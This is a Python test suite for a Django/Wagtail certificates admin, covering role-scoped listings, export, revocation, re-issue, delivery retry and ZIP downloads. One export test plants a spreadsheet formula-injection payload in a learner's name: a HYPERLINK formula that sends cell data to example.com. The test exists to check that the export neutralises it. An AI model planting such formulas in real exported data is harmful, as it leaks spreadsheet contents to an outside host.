"""The Certificates admin: a read-only listing scoped like Certificate.objects.visible_to(),
inspect and history views, revoke and re-issue with a reason (audit-logged), retry delivery,
and a bulk ZIP of the selected PDFs."""

import csv
import io
import json
import re
import zipfile

import pytest
from django.contrib.auth.models import Permission
from django.core import mail
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from certificates.models import Certificate, CertificateLogEntry
from courses.models import TrainingType
from people.models import AuditEntry, HRScope
from people.roles import HR

from .conftest import client_for, enrol, make_course, make_user

LISTING = "/admin/snippets/certificates/certificate/"
ZIP_ACTION = "/admin/bulk/certificates/certificate/download_zip/"


def inspect_url(certificate):
    return f"{LISTING}inspect/{certificate.pk}/"


def history_url(certificate):
    return f"{LISTING}history/{certificate.pk}/"


def revoke_url(certificate):
    return f"{LISTING}revoke/{certificate.pk}/"


def reissue_url(certificate):
    return f"{LISTING}reissue/{certificate.pk}/"


def retry_url(certificate):
    return f"{LISTING}retry-delivery/{certificate.pk}/"


def zip_url(*certificates, **params):
    query = "&".join([f"id={c.pk}" for c in certificates] + [f"{key}={value}" for key, value in params.items()])
    return f"{ZIP_ACTION}?{query}"


def issue(user, course):
    """Complete ``course`` for ``user`` and issue the certificate (its delivery, scheduled for
    after the test's transaction commits, never runs)."""
    enrolment = enrol(user, course, completed_at=timezone.now())
    return Certificate.objects.issue(enrolment)[0]


def assert_denied(response):
    assert response.status_code in (302, 403, 404), response.status_code
    if response.status_code == 302:
        assert response["Location"] == "/admin/" or response["Location"].startswith("/admin/login/")


def zip_members(response):
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture
def course(course_index, trainer):
    return make_course(
        course_index, 1, title="Chuyển đổi số trong thư viện", trainer=trainer, training_type=TrainingType.RETRAINING
    )[0]


@pytest.fixture
def other_course(course_index):
    return make_course(course_index, 1, title="Bảo quản hiện vật", training_type=TrainingType.REFRESHER)[0]


@pytest.fixture
def staff_a(units):
    return make_user("nv-dai-tu", profile={"full_name": "Đỗ Văn Đại", "institution": units["library_a"]})


@pytest.fixture
def staff_b(units):
    return make_user("nv-phu-luong", profile={"full_name": "Bùi Văn Lương", "institution": units["library_b"]})


@pytest.fixture
def cert_a(staff_a, course):
    """In the scope of the ``hr`` fixture (district A)."""
    return issue(staff_a, course)


@pytest.fixture
def cert_b(staff_b, other_course):
    """Outside it (district B), of a course the ``trainer`` fixture does not train."""
    return issue(staff_b, other_course)


@pytest.fixture
def hr_b(units):
    """HR officer of district B."""
    user = make_user("tccb-phu-luong", groups=[HR], profile={"full_name": "Mai Thị Lương"})
    HRScope.objects.create(user=user).administrative_units.add(units["district_b"])
    return user


@pytest.fixture
def admin_client(provincial_admin):
    return client_for(provincial_admin)


# Listing per role ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "sees_a", "sees_b"),
    [
        ("provincial_admin", True, True),
        ("superuser", True, True),
        ("hr", True, False),
        ("hr_b", False, True),
        ("trainer", True, False),  # cert_a's course is the trainer's, cert_b's is not
    ],
)
def test_listing_shows_the_certificates_in_the_users_scope(request, role, sees_a, sees_b, cert_a, cert_b):
    response = client_for(request.getfixturevalue(role)).get(LISTING)

    assert response.status_code == 200
    content = response.content.decode()
    assert (cert_a.number in content) is sees_a
    assert (cert_b.number in content) is sees_b


@pytest.mark.parametrize("role", ["learner", None])
def test_learners_and_anonymous_get_no_listing(request, role, cert_a, cert_b):
    user = request.getfixturevalue(role) if role else None

    response = client_for(user).get(LISTING)

    assert_denied(response)
    assert cert_a.number not in response.content.decode()


def test_menu_shows_certificates_to_hr_and_trainers_but_not_learners(hr, trainer, learner):
    assert LISTING in client_for(hr).get("/admin/").content.decode()
    assert LISTING in client_for(trainer).get("/admin/").content.decode()
    assert client_for(learner).get("/admin/").status_code == 302  # no admin access at all


def test_listing_columns(admin_client, cert_a):
    Certificate.objects.filter(pk=cert_a.pk).update(delivered_at=timezone.now())

    content = admin_client.get(LISTING).content.decode()

    for text in (cert_a.number, "Đỗ Văn Đại", "Chuyển đổi số trong thư viện", "Valid", "E-mailed"):
        assert text in content


def test_listing_status_shows_expired(admin_client, cert_a, cert_b):
    Certificate.objects.filter(pk=cert_b.pk).update(expires_on=timezone.localdate().replace(year=2000))

    content = admin_client.get(LISTING + "?status=expired").content.decode()

    assert cert_b.number in content
    assert cert_a.number not in content


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("status=revoked", {"b"}),
        ("status=valid", {"a"}),
        ("training_type=refresher", {"b"}),
        ("year={year}", {"a"}),
        ("year=2024", {"b"}),
    ],
)
def test_listing_filters(admin_client, provincial_admin, cert_a, cert_b, query, expected):
    cert_b.revoke(provincial_admin, "Cấp nhầm")
    Certificate.objects.filter(pk=cert_b.pk).update(year=2024)

    content = admin_client.get(LISTING + "?" + query.format(year=cert_a.year)).content.decode()

    assert {key for key, c in (("a", cert_a), ("b", cert_b)) if c.number in content} == expected


def test_listing_filters_by_course(admin_client, cert_a, cert_b):
    content = admin_client.get(f"{LISTING}?course={cert_b.course_id}").content.decode()

    assert cert_b.number in content
    assert cert_a.number not in content


@pytest.mark.parametrize("field", ["number", "learner_name", "code"])
def test_listing_search(admin_client, cert_a, cert_b, field):
    content = admin_client.get(LISTING, {"q": getattr(cert_b, field)}).content.decode()

    assert cert_b.number in content
    assert cert_a.number not in content


def test_hr_export_holds_only_its_scope(hr, cert_a, cert_b):
    response = client_for(hr).get(LISTING + "?export=csv")

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    assert cert_a.number in content
    assert cert_b.number not in content


def exported_rows(response, file_format):
    content = b"".join(response.streaming_content)
    if file_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [list(row) for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_neutralises_formulas_and_is_logged(provincial_admin, course, units, file_format):
    formula = '=HYPERLINK("http://example.com/?x="&A1,"Xem")'
    learner = make_user("cong-thuc", profile={"full_name": formula, "institution": units["library_a"]})
    certificate = issue(learner, course)

    response = client_for(provincial_admin).get(LISTING, {"export": file_format, "q": ""})

    assert response.status_code == 200
    rows = exported_rows(response, file_format)
    (row,) = [row for row in rows[1:] if row[0] == certificate.number]
    assert row[1] == "'" + formula
    entry = AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).get()
    assert (entry.user, entry.kind, entry.file_format, entry.rows, entry.filters) == (
        provincial_admin,
        "certificates",
        file_format,
        1,
        {"q": ""},
    )


def listing_queries(client):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(LISTING)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("role", ["provincial_admin", "hr"])
def test_listing_queries_do_not_grow_with_certificates(request, role, django_assert_max_num_queries, units, course):
    client = client_for(request.getfixturevalue(role))
    learners = [
        make_user(f"hv{i}", profile={"full_name": f"Học viên {i}", "institution": units["library_a"]})
        for i in range(15)
    ]
    for learner in learners[:3]:
        issue(learner, course)
    listing_queries(client)  # warm the caches (content types, site root)
    with_three = listing_queries(client)
    for learner in learners[3:]:
        issue(learner, course)

    with django_assert_max_num_queries(with_three):
        response = client.get(LISTING)

    assert response.content.decode().count("/GCN") >= 15


# Nothing to add, edit or delete ---------------------------------------------------------------


@pytest.mark.parametrize("role", ["provincial_admin", "superuser"])
def test_nobody_adds_edits_or_deletes_certificates(request, role, cert_a):
    client = client_for(request.getfixturevalue(role))

    for url in (LISTING + "add/", f"{LISTING}edit/{cert_a.pk}/", f"{LISTING}delete/{cert_a.pk}/"):
        assert_denied(client.get(url))
    assert_denied(client.post(f"{LISTING}delete/{cert_a.pk}/"))
    client.post(f"/admin/bulk/certificates/certificate/delete/?id={cert_a.pk}")

    assert Certificate.objects.filter(pk=cert_a.pk).exists()
    content = client.get(LISTING).content.decode()
    assert f"{LISTING}edit/" not in content
    assert f"{LISTING}delete/" not in content
    assert "/admin/bulk/certificates/certificate/delete/" not in content


def chooser_html(client, path=""):
    response = client.get(f"/admin/snippets/choose/certificates/certificate/{path}")
    return response.status_code, json.loads(response.content)["html"] if response.status_code == 200 else ""


def test_chooser_lists_only_certificates_in_scope(hr, cert_a, cert_b):
    status, html = chooser_html(client_for(hr))

    assert status == 200
    assert cert_a.number in html
    assert cert_b.number not in html
    assert chooser_html(client_for(hr), f"chosen/{cert_b.pk}/")[0] == 404


def test_chooser_lists_trainers_only_their_courses(trainer, cert_a, cert_b):
    status, html = chooser_html(client_for(trainer))

    assert status == 200
    assert cert_a.number in html
    assert cert_b.number not in html
    assert chooser_html(client_for(trainer), f"chosen/{cert_b.pk}/")[0] == 404


def test_group_editor_offers_only_view_and_revoke(provincial_admin):
    from certificates.viewsets import CertificateViewSet

    codenames = set(CertificateViewSet().get_permissions_to_register().values_list("codename", flat=True))

    assert codenames == {"view_certificate", "revoke_certificate"}


# Inspect and history --------------------------------------------------------------------------


def test_hr_inspects_certificates_in_scope_only(hr, cert_a, cert_b):
    client = client_for(hr)

    response = client.get(inspect_url(cert_a))

    assert response.status_code == 200
    content = response.content.decode()
    assert cert_a.code in content
    assert cert_a.download_url in content
    assert cert_a.credential_url in content  # the signed credential, as JSON
    assert revoke_url(cert_a) not in content  # HR may not revoke
    assert client.get(inspect_url(cert_b)).status_code == 404
    assert client.get(history_url(cert_b)).status_code == 404


def test_inspect_shows_revocation_and_replacement(admin_client, provincial_admin, cert_a):
    new = cert_a.reissue(provincial_admin, "Sai họ tên trên giấy")

    old_page = admin_client.get(inspect_url(cert_a)).content.decode()
    new_page = admin_client.get(inspect_url(new)).content.decode()

    assert "Revoked" in old_page
    assert "Sai họ tên trên giấy" in old_page
    assert "Hoàng Văn Tỉnh" in old_page  # revoked by
    assert inspect_url(new) in old_page  # replaced by
    assert inspect_url(cert_a) in new_page  # replaces
    assert reissue_url(cert_a) not in old_page
    assert revoke_url(new) in new_page


def header_button(content, url):
    """The text of the screen's header button pointing to ``url``, or ``None``."""
    for match in re.finditer(r'(<a [^>]*href="([^"]*)"[^>]*>)(.*?)</a>', content, re.S):
        tag, href, text = match.groups()
        if href == url and "w-header-button" in tag:
            return " ".join(re.sub(r"<[^>]+>", " ", text).split())
    return None


def test_certificate_screen_has_a_revoke_button_for_those_who_may_revoke(provincial_admin, hr, trainer, cert_a):
    """A labelled button in the screen's header, not an entry of its "⋯" menu; in Vietnamese
    "Thu hồi giấy chứng nhận"."""
    vietnamese = Client()
    vietnamese.force_login(provincial_admin)

    admin_page = client_for(provincial_admin).get(inspect_url(cert_a)).content.decode()

    assert header_button(admin_page, revoke_url(cert_a)) == "Revoke certificate"
    assert admin_page.count(f'href="{revoke_url(cert_a)}"') == 1  # not in the "⋯" menu as well
    assert header_button(vietnamese.get(inspect_url(cert_a)).content.decode(), revoke_url(cert_a)) == (
        "Thu hồi giấy chứng nhận"
    )
    for user in (hr, trainer):  # they see the certificate, and may not revoke it
        page = client_for(user).get(inspect_url(cert_a)).content.decode()
        assert cert_a.number in page
        assert revoke_url(cert_a) not in page and "Revoke certificate" not in page


def test_a_revoked_certificate_has_no_revoke_button(admin_client, provincial_admin, cert_a):
    cert_a.revoke(provincial_admin, "Cấp nhầm")

    page = admin_client.get(inspect_url(cert_a)).content.decode()

    assert revoke_url(cert_a) not in page
    assert reissue_url(cert_a) in page  # re-issuing still applies


def test_history_lists_revocation_with_its_reason(hr, provincial_admin, cert_a):
    cert_a.revoke(provincial_admin, "Hồ sơ không hợp lệ")

    response = client_for(hr).get(history_url(cert_a))

    assert response.status_code == 200
    assert "Revoked. Reason: Hồ sơ không hợp lệ" in response.content.decode()


# Revoke ------------------------------------------------------------------------------------------


def test_listing_offers_actions_to_administrators_only(admin_client, hr, cert_a):
    assert revoke_url(cert_a) in admin_client.get(LISTING).content.decode()

    content = client_for(hr).get(LISTING).content.decode()
    assert cert_a.download_url in content
    assert revoke_url(cert_a) not in content
    assert reissue_url(cert_a) not in content


def test_revoke_requires_a_reason(admin_client, cert_a):
    assert admin_client.get(revoke_url(cert_a)).status_code == 200

    response = admin_client.post(revoke_url(cert_a), {"reason": "  "})

    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    cert_a.refresh_from_db()
    assert cert_a.status == Certificate.Status.VALID
    assert not CertificateLogEntry.objects.filter(action="certificates.revoke").exists()


def test_administrator_revokes_with_a_reason(admin_client, provincial_admin, cert_a):
    response = admin_client.post(revoke_url(cert_a), {"reason": "Hồ sơ không hợp lệ"}, follow=True)

    assert response.redirect_chain[-1][0] == LISTING
    assert f"Certificate {cert_a.number} revoked." in response.content.decode()
    cert_a.refresh_from_db()
    assert cert_a.status == Certificate.Status.REVOKED
    assert cert_a.revoked_by == provincial_admin
    assert cert_a.revoke_reason == "Hồ sơ không hợp lệ"
    entry = CertificateLogEntry.objects.get(action="certificates.revoke")
    assert entry.certificate_id == cert_a.pk
    assert entry.user == provincial_admin
    assert entry.data["reason"] == "Hồ sơ không hợp lệ"
    assert entry.message == "Revoked. Reason: Hồ sơ không hợp lệ"


def test_hr_cannot_revoke_even_in_scope(hr, cert_a):
    client = client_for(hr)

    assert_denied(client.get(revoke_url(cert_a)))
    assert_denied(client.post(revoke_url(cert_a), {"reason": "Thử"}))
    assert_denied(client.post(reissue_url(cert_a), {"reason": "Thử"}))

    cert_a.refresh_from_db()
    assert cert_a.status == Certificate.Status.VALID
    assert Certificate.objects.count() == 1


def test_revoking_needs_the_certificate_in_scope_too(hr, cert_a, cert_b):
    """An HR officer granted the revoke permission still acts only within its scope."""
    hr.user_permissions.add(Permission.objects.get(codename="revoke_certificate"))
    client = client_for(hr)

    assert client.post(revoke_url(cert_b), {"reason": "Thử"}).status_code == 404
    assert client.post(revoke_url(cert_a), {"reason": "Đúng phạm vi"}).status_code == 302

    assert Certificate.objects.get(pk=cert_b.pk).status == Certificate.Status.VALID
    assert Certificate.objects.get(pk=cert_a.pk).status == Certificate.Status.REVOKED


def test_revoking_twice_keeps_the_first_reason(admin_client, provincial_admin, cert_a):
    cert_a.revoke(provincial_admin, "Lý do đầu")

    response = admin_client.post(revoke_url(cert_a), {"reason": "Lý do sau"})

    assert response.status_code == 302
    assert response["Location"] == inspect_url(cert_a)
    assert Certificate.objects.get(pk=cert_a.pk).revoke_reason == "Lý do đầu"
    assert CertificateLogEntry.objects.filter(action="certificates.revoke").count() == 1


# Re-issue ---------------------------------------------------------------------------------------


def test_administrator_reissues(admin_client, provincial_admin, cert_a):
    response = admin_client.post(reissue_url(cert_a), {"reason": "Sai ngày sinh"})

    assert response.status_code == 302
    assert response["Location"] == LISTING
    old = Certificate.objects.get(pk=cert_a.pk)
    new = Certificate.objects.get(replaces=old)
    assert new.number != old.number
    assert new.code != old.code
    assert new.status == Certificate.Status.VALID
    assert new.issued_by == provincial_admin
    assert old.status == Certificate.Status.REVOKED
    assert old.revoke_reason == "Sai ngày sinh"
    entry = CertificateLogEntry.objects.get(action="certificates.reissue")
    assert entry.certificate_id == old.pk
    assert entry.data == {"reason": "Sai ngày sinh", "number": old.number, "new_number": new.number}
    assert entry.message == f"Re-issued as {new.number}. Reason: Sai ngày sinh"


def test_reissue_requires_a_reason(admin_client, cert_a):
    response = admin_client.post(reissue_url(cert_a), {"reason": ""})

    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    assert Certificate.objects.count() == 1


def test_a_certificate_is_reissued_once(admin_client, provincial_admin, cert_a):
    cert_a.reissue(provincial_admin, "Lần một")

    response = admin_client.post(reissue_url(cert_a), {"reason": "Lần hai"})

    assert response.status_code == 302
    assert response["Location"] == inspect_url(cert_a)
    assert Certificate.objects.count() == 2


def test_revoked_certificate_can_be_reissued(admin_client, provincial_admin, cert_a):
    cert_a.revoke(provincial_admin, "Cấp nhầm")

    admin_client.post(reissue_url(cert_a), {"reason": "Cấp lại sau khi xác minh"})

    new = Certificate.objects.get(replaces=cert_a)
    assert new.status == Certificate.Status.VALID
    assert Certificate.objects.get(pk=cert_a.pk).revoke_reason == "Cấp nhầm"


# Retry delivery -----------------------------------------------------------------------------------


def test_retry_delivery_emails_the_certificate(admin_client, cert_a, django_capture_on_commit_callbacks):
    assert cert_a.delivered_at is None
    assert retry_url(cert_a) in admin_client.get(LISTING).content.decode()

    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(retry_url(cert_a))

    assert response.status_code == 302
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["nv-dai-tu@example.vn"]
    assert mail.outbox[0].attachments[0][0] == cert_a.filename
    cert_a.refresh_from_db()
    assert cert_a.delivered_at is not None
    assert retry_url(cert_a) not in admin_client.get(LISTING).content.decode()


def test_retry_delivery_is_a_post(admin_client, cert_a, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        assert admin_client.get(retry_url(cert_a)).status_code == 200

    assert mail.outbox == []


def test_hr_cannot_retry_delivery(hr, cert_a, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        assert_denied(client_for(hr).post(retry_url(cert_a)))

    assert mail.outbox == []


# Bulk ZIP -----------------------------------------------------------------------------------------


def test_zip_of_the_selected_certificates(admin_client, cert_a, cert_b, staff_a, other_course):
    cert_c = issue(staff_a, other_course)
    confirmation = admin_client.get(zip_url(cert_a, cert_c))
    assert confirmation.status_code == 200
    assert cert_a.number in confirmation.content.decode()

    response = admin_client.post(zip_url(cert_a, cert_c))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert f'filename="giay-chung-nhan-{timezone.localdate():%Y%m%d}.zip"' in response["Content-Disposition"]
    members = zip_members(response)
    assert sorted(members) == sorted([cert_a.filename, cert_c.filename])
    assert all(content.startswith(b"%PDF") for content in members.values())


def test_listing_offers_the_zip_bulk_action(admin_client, cert_a):
    assert ZIP_ACTION in admin_client.get(LISTING).content.decode()


def test_hr_cannot_zip_certificates_outside_its_scope(hr, cert_a, cert_b):
    client = client_for(hr)

    confirmation = client.get(zip_url(cert_a, cert_b)).content.decode()
    response = client.post(zip_url(cert_a, cert_b))

    assert "not yours to download" in confirmation
    assert "Bùi Văn Lương" not in confirmation  # the other learner is not named
    assert response.status_code == 302
    assert response["Content-Type"] != "application/zip"
    assert sorted(zip_members(client.post(zip_url(cert_a)))) == [cert_a.filename]


def test_select_all_zips_the_filtered_listing_in_scope(admin_client, hr, cert_a, cert_b, staff_a, other_course):
    cert_c = issue(staff_a, other_course)

    everything_in_scope = client_for(hr).post(ZIP_ACTION + "?id=all")
    filtered = admin_client.post(ZIP_ACTION + f"?id=all&course={other_course.pk}")

    assert sorted(zip_members(everything_in_scope)) == sorted([cert_a.filename, cert_c.filename])
    assert sorted(zip_members(filtered)) == sorted([cert_b.filename, cert_c.filename])


def test_trainer_zips_only_certificates_of_their_courses(trainer, cert_a, cert_b):
    own = client_for(trainer).post(zip_url(cert_a))
    other = client_for(trainer).post(zip_url(cert_a, cert_b))

    assert own.get("Content-Type") == "application/zip"
    assert other.get("Content-Type") != "application/zip"


def test_site_history_shows_hr_only_the_certificates_in_its_scope(hr, provincial_admin, cert_a, cert_b):
    """Wagtail's Reports → Site history lists certificate log entries only to those who may
    see the certificate: HR of one unit never reads another unit's revocations."""
    cert_a.revoke(provincial_admin, "Lý do A")
    cert_b.revoke(provincial_admin, "Lý do B")
    in_scope, out_of_scope = cert_a, cert_b

    hr_view = client_for(hr).get("/admin/reports/site-history/")
    admin_view = client_for(provincial_admin).get("/admin/reports/site-history/")

    assert hr_view.status_code == 200
    assert in_scope.number in hr_view.content.decode()
    assert out_of_scope.number not in hr_view.content.decode()
    assert out_of_scope.learner_name not in hr_view.content.decode()
    assert cert_a.number in admin_view.content.decode() and cert_b.number in admin_view.content.decode()


def test_the_year_filter_offers_the_years_of_the_users_certificates_only(hr, cert_a, cert_b):
    """Found by the load test: the year filter listed the years of every certificate in the
    province (one query, made twice per listing), whatever the officer's scope."""
    Certificate.objects.filter(pk=cert_b.pk).update(year=2019)

    with CaptureQueriesContext(connection) as queries:
        content = client_for(hr).get(LISTING).content.decode()

    year_filter = re.search(r'<select name="year"[^>]*>(.*?)</select>', content, re.S).group(1)
    assert f'value="{cert_a.year}"' in year_filter
    assert 'value="2019"' not in year_filter
    assert sum('"certificates_certificate"."year"' in q["sql"] and "DISTINCT" in q["sql"] for q in queries) == 1
